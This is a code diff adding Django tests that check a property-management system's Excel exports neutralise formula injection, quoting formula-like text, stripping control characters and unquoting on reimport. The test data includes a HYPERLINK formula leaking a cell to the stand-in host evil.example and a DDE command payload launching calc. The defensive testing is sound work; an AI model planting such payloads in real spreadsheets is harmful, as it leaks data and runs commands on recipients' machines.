@@ -136,3 +136,79 @@ def test_rooms_export_takes_the_room_lists_query_string(world, client):
     world.supervisor._project_ids = None
     response = client.get("/import/export/rooms.xlsx?state=occupied", follow=True)
     assert "请选择项目。" in response.content.decode()
+
+
+# ------------------------------------------------------------------ formula injection (issue 10)
+
+
+def cells(response):
+    """Every data cell of the first sheet as openpyxl holds it (value and data_type)."""
+    content = b"".join(response.streaming_content)
+    ws = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    return [list(r) for r in ws.iter_rows()]
+
+
+def assert_no_formula(rows):
+    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
+
+
+def test_request_export_writes_formula_looking_text_as_quoted_text(world, client):
+    world.resident.name = "@SUM(1)"
+    world.resident.save()
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+    world.register(title=link, location="+1", description="\t=1+2")
+    world.register(title="=cmd|' /C calc'!A0", caller_name="-2+3", resident_id=None, room_id=None, location="+1")
+    world.register(title="#N/A")
+    client.force_login(world.finance)
+    rows = cells(client.get("/import/export/requests.xlsx"))
+    assert_no_formula(rows)
+    header = [c.value for c in rows[0]]
+    title, contact = header.index("标题"), header.index("联系人")
+    by_title = {r[title].value: r for r in rows[1:]}
+    assert set(by_title) == {"'" + link, "'=cmd|' /C calc'!A0", "'#N/A"}
+    assert by_title["'" + link][contact].value == "'@SUM(1)"
+    assert by_title["'=cmd|' /C calc'!A0"][contact].value == "'-2+3"
+    for row in rows[1:]:
+        assert row[title].data_type == "s" and row[contact].data_type == "s"
+    assert rows[1][header.index("登记时间")].data_type == "d"  # dates stay dates
+
+
+def test_rooms_and_residents_exports_quote_formula_text_and_keep_numbers(world, client):
+    world.room.layout = "\t=1+2"
+    world.room.save()
+    world.neighbour.name = "=1+1"
+    world.neighbour.save()
+    client.force_login(world.supervisor)
+    rows = cells(client.get(f"/import/export/rooms.xlsx?project={world.project.pk}"))
+    assert_no_formula(rows)
+    header = [c.value for c in rows[0]]
+    room = next(r for r in rows[1:] if r[header.index("房屋编号")].value == "3-2-1502")
+    layout = room[header.index("户型")]
+    assert (layout.value, layout.data_type) == ("'\t=1+2", "s")
+    area = room[header.index("产权面积")]
+    assert (area.value, area.data_type) == (100, "n")  # a number the program writes stays a number
+    neighbour = next(r for r in rows[1:] if r[header.index("房屋编号")].value == "3-2-1501")
+    assert neighbour[header.index("业主")].value == "'=1+1"
+    rows = cells(client.get(f"/import/export/residents.xlsx?project={world.project.pk}"))
+    assert_no_formula(rows)
+    header = [c.value for c in rows[0]]
+    names = {r[header.index("姓名")].value: r[header.index("姓名")].data_type for r in rows[1:]}
+    assert names == {"张三": "s", "'=1+1": "s"}
+
+
+def test_text_with_control_characters_is_exported_not_refused(world, client):
+    world.register(title="漏水\x0b\x01严重")  # pasted from another program
+    client.force_login(world.cs)
+    response = client.get("/import/export/requests.xlsx")
+    assert response.status_code == 200
+    header, row = sheet(response)
+    assert row[header.index("标题")] == "漏水严重"
+
+
+def test_an_exported_quote_is_taken_off_when_the_file_is_imported_again():
+    from importer.reader import cell_text
+
+    assert cell_text("'=1+1") == "=1+1"
+    assert cell_text("'-1-101") == "-1-101"
+    assert cell_text("'#N/A") == "#N/A"
+    assert cell_text("'普通文字") == "'普通文字"  # a quote before ordinary text is the user's
